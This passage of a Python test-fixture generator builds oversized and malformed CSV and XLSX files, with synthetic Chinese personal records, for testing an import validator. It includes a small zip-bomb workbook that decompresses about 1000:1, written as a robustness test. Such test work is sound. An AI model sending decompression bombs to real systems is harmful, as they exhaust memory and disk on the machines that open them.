    extra = [f"列{i}" for i in range(100_000 - len(HEADER))]
    with path.open("w", encoding="utf-8", newline="") as f:
        f.write(",".join(extra[:50_000] + HEADER + extra[50_000:]) + "\n")
        for r in (row("P1"), row("P2", "李四", LI, "男", "1980-01-01"), row("P3", "", WANG, "女", "1990-01-02")):
            values = [str(i % 10) for i in range(len(extra))]
            f.write(",".join(values[:50_000] + r + values[50_000:]) + "\n")


@large("columns_100k_missing.csv")
def _columns_100k_missing(path: Path) -> None:
    extra = [f"列{i}" for i in range(100_000 - len(HEADER))]
    header = [h for h in HEADER if h != "姓名"]
    with path.open("w", encoding="utf-8", newline="") as f:
        f.write(",".join(extra + header) + "\n")
        f.write(",".join(["0"] * len(extra) + [r for i, r in enumerate(row("P1")) if HEADER[i] != "姓名"]) + "\n")


@large("xlsx_zip_bomb.xlsx")
def _xlsx_zip_bomb(path: Path) -> None:
    """A workbook whose sheet expands from ~100 KB to 100 MB (ratio ~1000:1)."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                                           'package/2006/content-types"/>')
        zf.writestr("xl/workbook.xml", "<workbook/>")
        with zf.open("xl/worksheets/sheet1.xml", "w") as member:
            block = b"<row>" + b" " * ((1 << 20) - 11) + b"</row>"
            for _ in range(100):
                member.write(block)


BIG_ROWS = 120_000
BIG_BAD = {1: "resident_id.checksum", 49_999: "resident_id.checksum", 50_000: "date.invalid",
           50_001: "key.duplicate", 100_000: "phone.format", BIG_ROWS: "required"}


@large("rows_120k.csv")
def _rows_120k(path: Path) -> None:
    """120,000 rows over several chunks; the bad rows of ``BIG_BAD`` sit on chunk edges."""
    with path.open("w", encoding="utf-8", newline="") as f:
        f.write(",".join(HEADER) + "\n")
        for n in range(1, BIG_ROWS + 1):
            seq = n % 999 + 1  # 001-999: sequence 000 is never issued (resident_id.sequence_000)
            r = row(f"R{n}", f"姓名{n}", id18("110105", "19800101", seq), gender_of(seq), "1980-01-01")
            rule = BIG_BAD.get(n)
            if rule == "resident_id.checksum":
                r[2] = r[2][:-1] + ("1" if r[2][-1] != "1" else "2")
            elif rule == "date.invalid":
                r[4] = "1980-02-30"
            elif rule == "key.duplicate":
                r[0] = f"R{n - 3}"          # R49998 is valid and in the previous chunk
            elif rule == "phone.format":
                r[5] = "12345"
            elif rule == "required":
                r[1] = ""
            f.write(",".join(r) + "\n")


@large("long_line_no_newline.csv")
def _long_line_no_newline(path: Path) -> None:
    """A 2 MB last line (in an unmapped column) and no line break at the end of the file."""
    header = [*HEADER, "备注"]
    text = ",".join(header) + "\n" + ",".join([*row("P1"), "短"]) + "\n"
    text += ",".join([*row("P2", "李四", LI, "男", "1980-01-01"), "长" * 700_000])
    path.write_text(text, encoding="utf-8")


# ------------------------------------------------------------------ entry points


def write_small(folder: Path = FILES) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for name, build in SMALL.items():
        build(folder / name)
        out.append(folder / name)
    return out


def write_large(name: str, folder: Path) -> Path:
    """Write the large corpus file ``name`` into ``folder`` (once) and return its path."""
    path = folder / name
    if not path.exists():
        folder.mkdir(parents=True, exist_ok=True)
        tmp = folder / f".{name}.tmp"
        LARGE[name](tmp)
        tmp.replace(path)
    return path


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--large", metavar="DIR", type=Path, help="write the large files into DIR instead")
    args = parser.parse_args(argv)
    if args.large:
        for name in LARGE:
            print(write_large(name, args.large))
        return 0
    for path in write_small():
        size = path.stat().st_size
        if size > 64 * 1024:
            print(f"{path.name}: {size} bytes is too large to commit; make it a large file", file=sys.stderr)
            return 1
    print(f"{len(SMALL)} files written to {FILES}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
